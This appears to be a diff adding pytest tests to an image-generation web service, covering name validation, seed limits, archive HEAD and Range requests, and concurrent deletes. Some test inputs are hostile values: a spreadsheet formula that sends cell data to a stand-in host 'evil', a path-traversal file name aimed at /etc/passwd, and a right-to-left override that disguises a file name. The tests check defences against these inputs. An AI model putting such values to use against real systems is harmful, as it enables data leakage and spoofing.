@@ -16,7 +16,8 @@ import pytest
 from service_helpers import SMOKE, check_archive, embedded_client, finished_model, png_bytes, run_job, train_smoke, upload_files, wait_for
 
 from app.db import NotMigrated
-from app.orm import Worker
+from app.orm import Archive, Generation, Worker
+from app.schemas import MAX_SEED
 
 
 @pytest.fixture(scope="module")
@@ -93,7 +94,7 @@ def test_openapi_documents_every_route_with_examples(api):
         ("GET", "/healthz"), ("POST", "/v1/pairs"), ("GET", "/v1/pairs"), ("GET", "/v1/pairs/{pair_id}"), ("DELETE", "/v1/pairs/{pair_id}"),
         ("POST", "/v1/models"), ("GET", "/v1/models"), ("GET", "/v1/models/{model_id}"), ("POST", "/v1/models/{model_id}/cancel"),
         ("DELETE", "/v1/models/{model_id}"), ("POST", "/v1/generations"), ("GET", "/v1/generations/{generation_id}"),
-        ("GET", "/v1/generations/{generation_id}/archive"), ("POST", "/v1/generations/{generation_id}/cancel"),
+        ("GET", "/v1/generations/{generation_id}/archive"), ("HEAD", "/v1/generations/{generation_id}/archive"), ("POST", "/v1/generations/{generation_id}/cancel"),
         ("GET", "/v1/models/{model_id}/report"), ("GET", "/v1/models/{model_id}/report/figures/{name}"),
         ("GET", "/v1/generations/{generation_id}/report"), ("GET", "/v1/generations/{generation_id}/report/{model_id}/figures/{name}"),
     }
@@ -135,6 +136,43 @@ def test_upload_takes_a_name_and_never_uses_client_file_names_as_paths(make_clie
     body = client.post("/v1/pairs", files=upload_files(image, mask, "../../etc/passwd.jpg"), data={"name": "polyp 7"}).json()
     assert body["name"] == "polyp 7"
     assert blob_files(client) == [f"pairs/{body['id']}/image", f"pairs/{body['id']}/mask"]
+
+
+@pytest.mark.parametrize(
+    "name, message",
+    [
+        ("a\nb", "name: Value error, must not contain control, line-break or invisible formatting characters (found U+000A)"),
+        ("tab\there", "(found U+0009)"),
+        ("bell\x07", "(found U+0007)"),
+        ("\u202eevil.exe", "(found U+202E)"),  # right-to-left override: shows a different name
+        ("line\u2028break", "(found U+2028)"),
+        ("   ", "name: Value error, must not be empty or only whitespace"),
+        ("", "name: must not be empty or only whitespace (leave the field out to use the image's file name)"),
+        ("x" * 201, "name: String should have at most 200 characters"),
+    ],
+)
+def test_bad_pair_name_is_422_and_stores_nothing(api, kvasir, name, message):
+    before = (api.get("/v1/pairs").json(), blob_files(api))
+    response = api.post("/v1/pairs", files=upload_files(*kvasir(1)[:2]), data={"name": name})
+    assert response.status_code == 422 and message in response.json()["detail"]
+    assert (api.get("/v1/pairs").json(), blob_files(api)) == before
+
+
+@pytest.mark.parametrize("file_name", [".jpg", "   .jpg"])
+def test_a_file_name_that_makes_no_name_is_422(api, kvasir, file_name):
+    before = api.get("/v1/pairs").json()
+    response = api.post("/v1/pairs", files=upload_files(*kvasir(1)[:2], name=file_name))
+    assert response.status_code == 422
+    assert response.json()["detail"] == "name: taken from the image's file name, which must not be empty or only whitespace; send a name"
+    assert api.get("/v1/pairs").json() == before
+
+
+def test_pair_names_are_kept_as_given_up_to_200_characters(make_client, kvasir):
+    """Spreadsheet formulas are fine as names (the manifest neutralises them), and so is any script."""
+    client = make_client()
+    for name in ('=HYPERLINK("http://evil/"&A1)', "Polyp №7 – ñ 息肉", "é" * 200):
+        response = client.post("/v1/pairs", files=upload_files(*kvasir(1)[:2]), data={"name": name})
+        assert response.status_code == 201 and response.json()["name"] == name
 
 
 def _bad_uploads(kvasir):
@@ -217,6 +255,8 @@ def test_create_model_is_queued_with_status_from_the_database(api, pair):
         ({"preset": "huge"}, 422, "preset: Input should be 'paper', 'fast' or 'smoke'"),
         ({"overrides": {"nitr": 3}}, 422, "overrides.nitr: Extra inputs are not permitted"),
         ({"overrides": {"niter": 0}}, 422, "overrides.niter: Input should be greater than or equal to 1"),
+        ({"overrides": {"seed": 2**63}}, 422, "overrides.seed: Input should be less than or equal to 9223372036854775807"),
+        ({"overrides": {"seed": -1}}, 422, "overrides.seed: Input should be greater than or equal to 0"),
         ({"overrides": {"min_size": 200, "max_size": 100}}, 422, "need 10 <= min_size < max_size"),
         ({"overrides": {"min_size": 90, "max_size": 100}}, 422, "image is too small for a pyramid"),
     ],
@@ -321,6 +361,56 @@ def test_generation_archive_end_to_end(api, trained):
         assert len([n for n in zf.namelist() if n.startswith("images/")]) == 2
 
 
+def finished_generation(client, archive: bytes | None = None) -> str:
+    """A succeeded generation row (with an archive of these bytes, if given) or a cancelled one,
+    as a worker leaves it, without generating; returns its id."""
+    with client.app.state.services.sessions() as session:
+        generation = Generation(model_ids=[], samples_per_model=1, gen_start_scale=0, seed=0, status="succeeded" if archive else "cancelled")
+        session.add(generation)
+        session.flush()
+        if archive is not None:
+            key = f"generations/{generation.id}/archive.zip"
+            path = client.app.state.services.store.path(key)
+            path.parent.mkdir(parents=True)
+            path.write_bytes(archive)
+            session.add(Archive(generation_id=generation.id, blob_key=key, size_bytes=len(archive), sha256=hashlib.sha256(archive).hexdigest(), pairs=0))
+        session.commit()
+        return generation.id
+
+
+def test_archive_head_gives_the_headers_of_get_without_a_body(api):
+    content = bytes(range(256)) * 40
+    path = f"/v1/generations/{finished_generation(api, content)}/archive"
+    got, head = api.get(path), api.head(path)
+    assert got.status_code == head.status_code == 200 and got.content == content and head.content == b""
+    assert head.headers["content-length"] == str(len(content)) and head.headers["accept-ranges"] == "bytes"
+    assert {k: head.headers[k] for k in ("content-type", "content-length", "etag", "last-modified", "content-disposition")} == {
+        k: got.headers[k] for k in ("content-type", "content-length", "etag", "last-modified", "content-disposition")
+    }
+    ranged = api.head(path, headers={"Range": "bytes=10-19"})
+    assert ranged.status_code == 206 and ranged.headers["content-range"] == f"bytes 10-19/{len(content)}" and ranged.content == b""
+    assert api.head("/v1/generations/nope/archive").status_code == 404
+
+
+@pytest.mark.parametrize("header", ["bytes=10-5", "bytes=abc", "bytes=", "pages=0-3", "0-3"])
+def test_an_invalid_range_is_ignored(api, header):
+    content = b"PK" + bytes(1000)
+    response = api.get(f"/v1/generations/{finished_generation(api, content)}/archive", headers={"Range": header})
+    assert response.status_code == 200 and response.content == content and "content-range" not in response.headers
+
+
+def test_ranges_are_served_and_one_past_the_end_is_a_json_416(api):
+    content = bytes(range(100))
+    path = f"/v1/generations/{finished_generation(api, content)}/archive"
+    tail = api.get(path, headers={"Range": "bytes=90-"})
+    assert tail.status_code == 206 and tail.content == content[90:] and tail.headers["content-range"] == "bytes 90-99/100"
+    for header in ("bytes=100-", "bytes=100-200", "bytes=5000-5001"):
+        response = api.get(path, headers={"Range": header})
+        assert response.status_code == 416 and response.headers["content-range"] == "bytes */100"
+        assert response.headers["content-type"] == "application/json"
+        assert response.json() == {"detail": "the requested range starts beyond the end of the file (100 bytes)"}
+
+
 @pytest.mark.parametrize(
     "body, status, message",
     [
@@ -331,6 +421,8 @@ def test_generation_archive_end_to_end(api, trained):
         ({"gen_start_scale": 4}, 422, "gen_start_scale: model"),
         ({"style_transfer": True}, 409, "style_transfer: style transfer needs torchvision's ImageNet VGG19 weights vgg19-dcbb9e9d.pth"),
         ({"colour": "red"}, 422, "colour: Extra inputs are not permitted"),
+        ({"seed": 2**63}, 422, "seed: Input should be less than or equal to 9223372036854775807"),
+        ({"seed": 1e26}, 422, "seed: Unable to parse input string as an integer, exceeded maximum size"),
     ],
 )
 def test_bad_generation_request_is_rejected_and_stores_nothing(api, trained, body, status, message):
@@ -338,6 +430,16 @@ def test_bad_generation_request_is_rejected_and_stores_nothing(api, trained, bod
     response = api.post("/v1/generations", json={"model_ids": [trained["id"]], **body})
     assert response.status_code == status and message in response.json()["detail"]
     assert api.get("/v1/generations").json() == before
+
+
+def test_the_largest_seed_is_accepted_and_kept(api, pair, trained):
+    model = api.post("/v1/models", json={"pair_id": pair["id"], **SMOKE, "overrides": {"seed": MAX_SEED}})
+    generation = api.post("/v1/generations", json={"model_ids": [trained["id"]], "seed": MAX_SEED})
+    assert model.status_code == 202 and generation.status_code == 202
+    assert api.get(f"/v1/models/{model.json()['id']}").json()["overrides"] == {"seed": MAX_SEED}
+    assert api.get(f"/v1/generations/{generation.json()['id']}").json()["seed"] == MAX_SEED == 2**63 - 1
+    api.post(f"/v1/models/{model.json()['id']}/cancel")
+    api.post(f"/v1/generations/{generation.json()['id']}/cancel")
 
 
 def test_generating_from_an_unfinished_model_is_409(api, pair):
@@ -370,3 +472,28 @@ def test_delete_pair_refuses_with_models_and_cascades_on_request(api, kvasir):
     assert api.get(f"/v1/pairs/{pair['id']}").status_code == 404 and api.get(f"/v1/models/{model['id']}").status_code == 404
     assert not [f for f in blob_files(api) if pair["id"] in f or model["id"] in f]
     assert not api.app.state.services.store.path(f"models/{model['id']}").exists()
+
+
+@pytest.mark.parametrize("kind", ["models", "pairs", "generations"])
+def test_concurrent_deletes_of_one_resource_give_one_204(api, kvasir, kind):
+    """Each round, several threads delete the same resource at once: one 204, the rest 404."""
+    for _ in range(3):
+        if kind == "generations":
+            resource_id = finished_generation(api)
+        else:
+            pair_id = api.post("/v1/pairs", files=upload_files(*kvasir(1)[:2])).json()["id"]
+            resource_id = finished_model(api, pair_id) if kind == "models" else pair_id
+        barrier = threading.Barrier(6)
+        statuses: list[int] = []
+
+        def delete():
+            barrier.wait()
+            statuses.append(api.delete(f"/v1/{kind}/{resource_id}").status_code)
+
+        threads = [threading.Thread(target=delete) for _ in range(barrier.parties)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join(60)
+        assert sorted(statuses) == [204] + [404] * 5
+        assert api.get(f"/v1/{kind}/{resource_id}").status_code == 404
